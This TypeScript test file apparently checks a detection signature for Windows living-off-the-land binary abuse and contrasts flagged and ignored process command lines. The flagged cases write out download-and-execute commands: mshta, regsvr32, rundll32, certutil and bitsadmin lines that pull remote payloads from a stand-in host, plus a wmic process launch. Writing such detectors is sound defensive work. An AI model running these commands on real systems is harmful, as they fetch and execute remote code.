import { given, SignatureTester } from 'ovoscope/testing';
import LolbinProxy from './lolbin_proxy.ts';

const run = (command_line: string) => given('sample.exe', ['CreateProcessInternalW', { command_line }]);

new SignatureTester().run(LolbinProxy, {
  detects: [
    {
      name: 'mshta',
      results: run('mshta.exe https://x.example/a.hta'),
      data: [
        {
          pid: 1000,
          process: 'sample.exe',
          cid: 0,
          api: 'CreateProcessInternalW',
          command_line: 'mshta.exe https://x.example/a.hta',
          technique: 'T1218.005',
        },
      ],
    },
    { name: 'regsvr32', results: run('regsvr32 /s /n /u /i:https://x.example/a.sct scrobj.dll') },
    { name: 'rundll32', results: run(String.raw`rundll32.exe javascript:"\..\mshtml,RunHTMLApplication "`) },
    { name: 'certutil', results: run('certutil -urlcache -split -f http://x.example/a a.exe') },
    { name: 'bitsadmin', results: run('bitsadmin /transfer j http://x.example/a C:/a.exe') },
    { name: 'wmic', results: run('wmic process call create calc.exe') },
  ],
  ignores: [
    { name: 'a page of its own', results: run(String.raw`mshta.exe C:\a.hta`) },
    { name: 'a library registered', results: run(String.raw`regsvr32 /s C:\a.dll`) },
    { name: 'a library run', results: run('rundll32 shell32.dll,Control_RunDLL') },
    { name: 'a hash', results: run('certutil -hashfile a.exe SHA256') },
    { name: 'a question', results: run('wmic process get name') },
  ],
});
